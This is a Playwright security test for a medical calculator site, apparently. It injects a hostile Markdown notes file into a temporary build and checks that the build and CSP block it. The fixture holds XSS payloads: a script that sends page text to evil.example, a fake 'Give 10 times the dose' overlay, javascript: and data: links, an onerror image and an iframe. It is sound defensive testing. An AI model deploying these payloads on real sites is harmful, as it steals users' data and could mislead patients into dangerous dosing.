/**
 * Hostile definitions, end to end (issue 15, finding 2): a temporary copy of the project whose bmi
 * notes.md carries a script that reads the form and leaves for another origin, a style="" overlay,
 * javascript:/data: links, an onerror image and an iframe is built as a contributor's branch would be
 * (`npm run check` refuses it first; this is what the build does if a check is skipped), then opened
 * in Chromium: none of it is in the page or in the CSP, nothing runs, the page stays on its origin.
 */
import { spawn, spawnSync, type ChildProcess } from 'node:child_process';
import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from '@playwright/test';
import { loadCatalog } from '../../src/definitions/load';
import { expectCase, quickFill } from './expect-case';

const ROOT = process.cwd();
const PORT = Number(process.env.E2E_PORT ?? 4399) + 2;
const bmi = loadCatalog(undefined, ['bmi']).entries[0];
const NOTES = `# Evidence

Ordinary text with a [real link](https://doi.org/10.1000/x).

<script>window.__pwned = 1; location.href = 'https://evil.example/?' + encodeURIComponent(document.body.innerText)</script>

<div style="position:fixed;inset:0;z-index:99;background:white" data-overlay>Give 10 times the dose</div>

[Full text](javascript:window.__pwned=2)

[Data](data:text/html,<script>window.__pwned=3</script>)

![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)

<img src="x" onerror="window.__pwned=4">

<iframe src="https://evil.example/"></iframe>
`;

let dir: string;
let server: ChildProcess | undefined;

test.describe.configure({ mode: 'serial' });
test.beforeAll(async () => {
  test.setTimeout(300_000);
  // Inside the project (an ignored folder), so node_modules resolves from the parent as it does for
  // the real build; a symlinked node_modules confuses Vite's path cache.
  mkdirSync(join(ROOT, 'test-results'), { recursive: true });
  dir = mkdtempSync(join(ROOT, 'test-results', 'hostile-build-'));
  for (const f of ['astro.config.mjs', 'package.json', 'tsconfig.json', 'src', 'public', 'models']) cpSync(join(ROOT, f), join(dir, f), { recursive: true });
  // The verification page shows the external conformance rows each calculator passes (written by npm run conformance).
  mkdirSync(join(dir, 'test', 'conformance'), { recursive: true });
  cpSync(join(ROOT, 'test', 'conformance', 'by-calculator.json'), join(dir, 'test', 'conformance', 'by-calculator.json'));
  // The brotli cache of the 14 MB wasm (src/integrations/precompress.mjs), so the copy does not spend a minute on it.
  mkdirSync(join(dir, 'node_modules', '.cache'), { recursive: true });
  mkdirSync(join(ROOT, 'node_modules', '.cache', 'bedside-precompress'), { recursive: true });
  symlinkSync(join(ROOT, 'node_modules', '.cache', 'bedside-precompress'), join(dir, 'node_modules', '.cache', 'bedside-precompress'), 'dir');
  cpSync(join(ROOT, 'calculators', 'bmi'), join(dir, 'calculators', 'bmi'), { recursive: true });
  writeFileSync(join(dir, 'calculators', 'bmi', 'notes.md'), NOTES);
  const check = spawnSync('npx', ['tsx', 'src/cli/check.ts'], { cwd: dir, encoding: 'utf8', env: { ...process.env, GITHUB_ACTIONS: '' } });
  expect(check.status, 'npm run check refuses the branch').toBe(1);
  expect(check.stderr).toContain('calculators/bmi/notes.md:5');
  const env = { ...process.env };
  delete env.BEDSIDE_BASE;
  delete env.BEDSIDE_OUT_DIR;
  // The build runs the same checks and refuses it too…
  const refused = spawnSync('npx', ['astro', 'build'], { cwd: dir, encoding: 'utf8', env });
  expect(refused.status, 'the build refuses the branch').not.toBe(0);
  expect(refused.stderr).toContain('calculators/bmi/notes.md:5');
  // …and were the checks skipped, the renderer and the CSP would still keep it inert.
  const build = spawnSync('npx', ['astro', 'build'], { cwd: dir, encoding: 'utf8', env: { ...env, BEDSIDE_UNCHECKED_BUILD: '1' } });
  expect(build.status, build.stderr.slice(-2000)).toBe(0);
  server = spawn('npx', ['astro', 'preview', '--host', '127.0.0.1', '--port', String(PORT)], { cwd: dir, stdio: 'ignore', detached: true });
  for (let k = 0; k < 60; k++) {
    if (
      await fetch(`http://127.0.0.1:${PORT}/`)
        .then((r) => r.ok)
        .catch(() => false)
    )
      break;
    await new Promise((r) => setTimeout(r, 500));
  }
});
test.afterAll(() => {
  if (server?.pid) process.kill(-server.pid);
  if (dir) rmSync(dir, { recursive: true, force: true });
});

test('hostile notes.md: nothing of it runs or is allowed by the CSP, the page computes', async ({ page }) => {
  test.setTimeout(60_000);
  const html = readFileSync(join(dir, 'dist', 'c', 'bmi', 'index.html'), 'utf8');
  expect(html).not.toMatch(/__pwned|evil\.example|data-overlay|javascript:|onerror|<iframe/);
  expect(html).toContain('<a href="https://doi.org/10.1000/x" rel="noreferrer">real link</a>');
  const requests: string[] = [];
  page.on('request', (r) => requests.push(r.url()));
  await page.goto(`http://127.0.0.1:${PORT}/c/bmi/`);
  await expect(page.getByRole('heading', { name: 'Evidence, pearls and pitfalls' })).toBeVisible();
  await quickFill(page, bmi.calc, bmi.cases[0]);
  await expectCase(page, bmi.calc, bmi.cases[0]);
  // Unsafe targets are removed (the link text stays, inert); what remains is https.
  for (const link of await page.locator('.prose-notes a').all()) expect((await link.getAttribute('href')) ?? 'https://(none)').toMatch(/^https:\/\//);
  expect(await page.evaluate(() => (window as { __pwned?: number }).__pwned)).toBeUndefined();
  expect(new URL(page.url()).host).toBe(`127.0.0.1:${PORT}`);
  expect(requests.filter((u) => !u.startsWith(`http://127.0.0.1:${PORT}/`) && !u.startsWith('data:'))).toEqual([]);
});
